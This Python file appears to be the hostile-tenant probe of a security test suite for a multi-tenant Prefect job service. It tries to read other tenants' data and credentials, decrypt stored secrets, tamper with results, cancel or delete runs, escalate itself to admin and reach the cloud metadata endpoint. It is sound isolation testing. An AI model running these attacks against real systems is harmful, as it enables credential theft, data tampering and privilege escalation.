"""What a hostile tenant's code tries against other tenants, from inside its own job.

Never imported by the tests: `campaign.attack_code` sends this file's source as a job's
`signature_code` or `metric_code`, after a line `TARGETS = {...}` (what the attacker is
told or could guess: paths, ids, URLs), and followed by `finish(run_local(TARGETS))` or
`finish(run_prefect(TARGETS))`. It runs in the job's engine when the code is loaded.

Each attempt prints one line `hostile-report {"attempt", "got", "detail", "found"}` to the
job's log: `got` says the attempt reached what it was after (read, listed, wrote, created,
connected), `detail` what happened (status codes, the exception), `found` the canary
strings it read. `finish` then raises, so the job fails at once with a one-line summary.
An attempt that raises is reported with got=false and the exception; nothing here stops
the other attempts. Only the standard library and what the engine has (httpx,
cryptography, asyncpg).
"""

import asyncio
import base64
import json
import os
import re
import socket
import sqlite3
import struct
import threading
import uuid

REPORT_PREFIX = "hostile-report "
CANARY = re.compile(r"hostile-canary-[a-z]+-[0-9a-f]{32}")
TIMEOUT = 3.0
READ_CAP = 32 * 1024 * 1024
FAR_FUTURE = "2999-01-01T00:00:00Z"
# The stack's processes by consecutive words of their command line.
PROC_ROLES = {
    "worker": (b"prefect", b"worker"),
    "server": (b"prefect", b"server"),
    "api": (b"uvicorn", b"api.main:app"),
}


def found_in(*blobs):
    hits = set()
    for blob in blobs:
        text = blob.decode("latin-1") if isinstance(blob, bytes) else str(blob)
        hits.update(CANARY.findall(text))
    return sorted(hits)


def attempt(results, name, action, *args, **kwargs):
    try:
        got, detail, found = action(*args, **kwargs)
    except Exception as exc:  # noqa: BLE001 - every failure is the attempt's outcome
        got, detail, found = False, f"{type(exc).__name__}: {exc}", []
    entry = {"attempt": name, "got": bool(got), "detail": str(detail)[:500], "found": sorted(set(found))}
    results[name] = entry
    print(REPORT_PREFIX + json.dumps(entry), flush=True)


def finish(results):
    summary = ", ".join(f"{name}={'GOT' if entry['got'] else 'no'}" for name, entry in results.items())
    raise RuntimeError(f"hostile attempts: {summary}")


def read_file(path):
    with open(path, "rb") as handle:
        return handle.read(READ_CAP)


def walk_files(root):
    for directory, _, names in os.walk(root):
        for name in names:
            yield os.path.join(directory, name)


# ---- files, processes, the database (run_local) ----


def database_rows(targets):
    """Flow-run parameters, block documents and the server's encryption key, as text."""
    queries = {
        "parameters": "SELECT CAST(parameters AS TEXT) FROM flow_run",
        "blocks": "SELECT CAST(data AS TEXT) FROM block_document",
        "key": "SELECT CAST(value AS TEXT) FROM configuration WHERE key = 'ENCRYPTION_KEY'",
    }
    database = targets["database"]
    if database["kind"] == "sqlite":
        with sqlite3.connect(f"file:{database['path']}?mode=ro", uri=True, timeout=5) as connection:
            return {name: [row[0] for row in connection.execute(sql)] for name, sql in queries.items()}
    rows, errors = {}, []

    async def fetch():
        import asyncpg

        connection = await asyncpg.connect(database["dsn"], timeout=TIMEOUT)
        try:
            for name, sql in queries.items():
                rows[name] = [row[0] for row in await connection.fetch(sql)]
        finally:
            await connection.close()

    def work():
        try:
            asyncio.run(fetch())
        except Exception as exc:  # noqa: BLE001
            errors.append(exc)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join(30)
    if errors:
        raise errors[0]
    return rows


def decrypt_blocks(rows):
    from cryptography.fernet import Fernet

    fernet = Fernet(json.loads(rows["key"][0])["fernet_key"].encode())
    return [fernet.decrypt(json.loads(data).encode()).decode() for data in rows["blocks"]]


def read_database(targets):
    raw = b""
    if targets["database"]["kind"] == "sqlite":
        path = targets["database"]["path"]
        raw = b"".join(read_file(p) for p in (path, path + "-wal") if os.path.exists(p))
    rows = database_rows(targets)
    secrets = decrypt_blocks(rows) if rows.get("key") else []
    found = found_in(raw, *rows.get("parameters", []), *secrets)
    detail = f"{len(raw)} bytes of the file, {len(rows.get('parameters', []))} runs, {len(secrets)} secrets decrypted"
    return True, detail, found


def read_proc_environ(targets):
    """Every process's environment (this one's too: it must hold no canary either)."""
    others, roles, blobs = 0, set(), []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            command = read_file(f"/proc/{entry}/cmdline")
            environ = read_file(f"/proc/{entry}/environ")
        except OSError:
            continue
        blobs.append(environ)
        if environ and int(entry) != os.getpid():
            others += 1
            argv = command.split(b"\0")
            pairs = set(zip(argv, argv[1:], strict=False))
            roles.update(role for role, words in PROC_ROLES.items() if words in pairs)
    found = found_in(*blobs)
    return bool(roles or found), f"{others} other processes' environ readable; roles {sorted(roles)}", found


def list_directory(root, wanted):
    names = [os.path.relpath(path, root) for path in walk_files(root)] + os.listdir(root)
    seen = [name for name in names if wanted in name]
    return bool(seen), f"{len(names)} entries under {root}; {wanted!r} listed: {bool(seen)}", found_in(*names)


def read_path(path):
    paths = list(walk_files(path)) if os.path.isdir(path) else [path]
    blobs = [read_file(p) for p in paths]
    return any(blobs), f"read {sum(len(b) for b in blobs)} bytes from {len(paths)} files", found_in(*blobs)


def read_home(targets):
    blobs, errors = [], 0
    for path in walk_files(targets["home"]):
        try:
            blobs.append(read_file(path))
        except OSError:
            errors += 1
    found = found_in(*blobs)
    return bool(found), f"read {len(blobs)} files under the home ({errors} unreadable)", found


def write_result(targets):
    path = targets["result"]
    content = json.loads(read_file(path))
    content["tampered_by"] = "hostile tenant"
    content["optimized_test_metric"] = -1.0  # what the victim sees of their result
    with open(path, "w") as handle:
        json.dump(content, handle)
    return True, f"rewrote {path}", []


def ask_lm_cache(sock, op, key):
    sock.sendall(struct.pack("!cII", op, len(key), 0) + key)
    head = b""
    while len(head) < 5:
        chunk = sock.recv(5 - len(head))
        if not chunk:
            raise ConnectionError("the LM cache socket closed")
        head += chunk
    status, length = struct.unpack("!cI", head)
    payload = b""
    while len(payload) < length:
        chunk = sock.recv(length - len(payload))
        if not chunk:
            raise ConnectionError("the LM cache socket closed")
        payload += chunk
    return status, payload


def read_lm_cache_via_socket(targets):
    """The job's own LM cache socket, asked for the victim's cache keys (which the attacker
    could compute from a prompt it guesses)."""
    path = os.environ.get("DSPY_SERVICE_LM_CACHE_SOCKET") or "/run/dspy/lm-cache.sock"
    keys = targets["lm_cache_keys"]
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect(path)
        answers = [ask_lm_cache(sock, op, key.encode()) for key in keys for op in (b"C", b"G")]
    hits = [payload for status, payload in answers if status == b"H"]
    statuses = sorted({status.decode() for status, _ in answers})
    return bool(hits), f"asked {path} for {len(keys)} of the victim's keys: answers {statuses}", found_in(*hits)


def run_local(targets):
    results = {}
    attempt(results, "database", read_database, targets)
    attempt(results, "proc_environ", read_proc_environ, targets)
    attempt(results, "list_datasets", list_directory, targets["datasets_dir"], targets["dataset_name"])
    attempt(results, "read_dataset", read_path, targets["dataset"])
    attempt(results, "list_results", list_directory, targets["results_dir"], targets["result_name"])
    attempt(results, "read_result", read_path, targets["result"])
    attempt(results, "list_lm_cache", list_directory, targets["lm_cache_dir"], targets["lm_cache_name"])
    attempt(results, "read_lm_cache", read_path, os.path.join(targets["lm_cache_dir"], targets["lm_cache_name"]))
    attempt(results, "read_lm_cache_via_socket", read_lm_cache_via_socket, targets)
    attempt(results, "read_home", read_home, targets)
    attempt(results, "write_result", write_result, targets)
    return results


# ---- the Prefect API, our API, the network (run_prefect) ----


def environ_values(name):
    prefix, values = f"{name}=".encode(), []
    for entry in os.listdir("/proc"):
        try:
            environ = read_file(f"/proc/{entry}/environ") if entry.isdigit() else b""
        except OSError:
            continue
        values += [item[len(prefix) :].decode() for item in environ.split(b"\0") if item.startswith(prefix)]
    return values


def secrets_found(env_name, file_path):
    """Secrets found anywhere, as (where, value): our environment, a file, other processes."""
    found = [("environment", os.environ[env_name])] if os.environ.get(env_name) else []
    try:
        found.append(("file", read_file(file_path).decode().strip()))
    except OSError:
        pass
    found += [("/proc environ", value) for value in environ_values(env_name)]
    return [(where, value) for where, value in found if value]


def find_secret(sources):
    return bool(sources), f"found in: {sorted({where for where, _ in sources})}", []


def distinct(sources):
    """One (where, value) per value."""
    return list({value: (where, value) for where, value in reversed(sources)}.values())


def prefect_routes(targets, auth):
    """(label, base URL, headers): the real server and our own PREFECT_API_URL, with no auth
    string and with each one found."""
    urls = {"server": targets["prefect_url"], "env": os.environ.get("PREFECT_API_URL", "")}
    headers = [("no auth", {})]
    headers += [(f"auth from {where}", {"Authorization": "Basic " + base64.b64encode(v.encode()).decode()})
                for where, v in auth]
    return [(f"{u} {h}", url.rstrip("/"), header) for u, url in urls.items() if url for h, header in headers]


def request_everywhere(routes, method, path, succeeded, **kwargs):
    """Try the request on every route; (got, detail, found) with what came back."""
    import httpx

    outcomes, bodies, got = [], [], False
    for label, base, headers in routes:
        try:
            response = httpx.request(method, base + path, headers=headers, timeout=TIMEOUT, **kwargs)
        except httpx.HTTPError as exc:
            outcomes.append(f"{label}: {type(exc).__name__}")
            continue
        outcomes.append(f"{label}: {response.status_code}")
        if succeeded(response):
            got = True
            bodies.append(response.text)
    return got, "; ".join(outcomes), found_in(*bodies)


def ok(response):
    return response.is_success


def accepted(response):
    return response.is_success and response.json().get("status") == "ACCEPT"


def own_parameters():
    """This job's own flow-run parameters (to create a copy of it), read as the engine reads its run."""
    try:
        from prefect.client.orchestration import get_client
        from prefect.runtime import flow_run

        with get_client(sync_client=True) as client:
            return client.read_flow_run(flow_run.id).model_dump(mode="json")["parameters"]
    except Exception:  # noqa: BLE001 - then a run without parameters
        return {}


def scheduled_far_ahead(parameters, name, **extra):
    state = {"type": "SCHEDULED", "state_details": {"scheduled_time": FAR_FUTURE}}
    return {"name": name, "parameters": parameters, "state": state, **extra}


def promote_self(routes, variable):
    import httpx

    outcomes = []
    for label, base, headers in routes:
        try:
            record = httpx.get(f"{base}/variables/name/{variable}", headers=headers, timeout=TIMEOUT)
            if not record.is_success:
                outcomes.append(f"{label}: read {record.status_code}")
                continue
            value = {**record.json()["value"], "admin": True}
            answer = httpx.patch(f"{base}/variables/name/{variable}", headers=headers, json={"value": value},
                                 timeout=TIMEOUT)
        except httpx.HTTPError as exc:
            outcomes.append(f"{label}: {type(exc).__name__}")
            continue
        outcomes.append(f"{label}: {answer.status_code}")
        if answer.is_success:
            return True, "; ".join(outcomes), []
    return False, "; ".join(outcomes), []


def tcp_connect(host, port):
    with socket.create_connection((host, port), timeout=TIMEOUT):
        return True, f"connected to {host}:{port}", []


def http_get(url, proxied_only=False):
    """GET `url` through the HTTP proxy the environment names, if any (httpx's trust_env);
    only the status is kept. `proxied_only`: send nothing unless a proxy is named."""
    import httpx

    if proxied_only and not (os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")):
        return False, "no HTTP proxy in the environment: not sent", []
    response = httpx.get(url, timeout=TIMEOUT)
    return response.status_code == 200, f"{url}: {response.status_code}", []


def run_prefect(targets):
    results, runs, home = {}, targets["runs"], targets["home"]
    auth = secrets_found("PREFECT_API_AUTH_STRING", os.path.join(home, "prefect-auth"))
    tokens = secrets_found("DSPY_SERVICE_TOKEN", os.path.join(home, "admin-token"))
    attempt(results, "find_auth_string", find_secret, auth)
    attempt(results, "find_admin_token", find_secret, tokens)
    prefect = prefect_routes(targets, distinct(auth))
    ours = [("our API no token", targets["api_url"], {})]
    ours += [(f"our API token from {where}", targets["api_url"], {"Authorization": f"Bearer {token}"})
             for where, token in distinct(tokens)]
    parameters = own_parameters()

    def every(name, *args, **kwargs):
        attempt(results, name, request_everywhere, *args, **kwargs)

    every("read_run", prefect, "GET", f"/flow_runs/{runs['read']}", ok)
    every("list_runs", prefect, "POST", "/flow_runs/filter", ok, json={"limit": 200})
    every("read_secrets", prefect, "POST", "/block_documents/filter", ok, json={"include_secrets": True})
    every("read_job_via_our_api", ours, "GET", f"/jobs/{runs['read']}", ok)
    cancel = {"state": {"type": "CANCELLING", "name": "Cancelling"}, "force": True}
    every("cancel_run", prefect, "POST", f"/flow_runs/{runs['cancel']}/set_state", accepted, json=cancel)
    every("cancel_job_via_our_api", ours, "POST", f"/jobs/{runs['cancel_via_api']}/cancel", ok)
    every("delete_run", prefect, "DELETE", f"/flow_runs/{runs['delete']}", ok)
    every("delete_job_via_our_api", ours, "DELETE", f"/jobs/{runs['delete_via_api']}", ok)
    every("create_flow_run", prefect, "POST", f"/deployments/{targets['deployment_id']}/create_flow_run", ok,
          json=scheduled_far_ahead(parameters, "hostile-created"))
    command = {"command": "sh -c 'echo owned'"}
    every("create_flow_run_with_command", prefect, "POST", "/flow_runs/", ok,
          json=scheduled_far_ahead(parameters, "hostile-created-command", flow_id=targets["flow_id"],
                                   deployment_id=targets["deployment_id"], job_variables=command))
    every("set_variable", prefect, "POST", "/variables/", ok,
          json={"name": f"hostile-{uuid.uuid4().hex[:12]}", "value": "owned"})
    attempt(results, "promote_self", promote_self, prefect, targets["user_variable"])
    attempt(results, "metadata_tcp", tcp_connect, "169.254.169.254", 80)
    attempt(results, "metadata_http", http_get, "http://169.254.169.254/", proxied_only=True)
    attempt(results, "prefect_port_tcp", tcp_connect, "127.0.0.1", targets["prefect_port"])
    attempt(results, "prefect_port_http", http_get, f"{targets['prefect_url']}/health")
    attempt(results, "database_port_tcp", tcp_connect, "127.0.0.1", 5432)
    return results
